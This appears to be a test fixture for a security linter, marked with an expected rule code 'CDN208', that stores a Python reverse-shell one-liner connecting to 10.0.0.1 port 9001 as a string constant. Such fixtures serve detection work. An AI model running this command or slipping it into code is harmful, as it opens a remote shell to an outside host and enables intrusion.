# expect: CDN208
import os
PAYLOAD = "python3 -c \"import socket,os,pty;s=socket.socket();s.connect((\x2710.0.0.1\x27,9001));pty.spawn(\x27sh\x27)\""
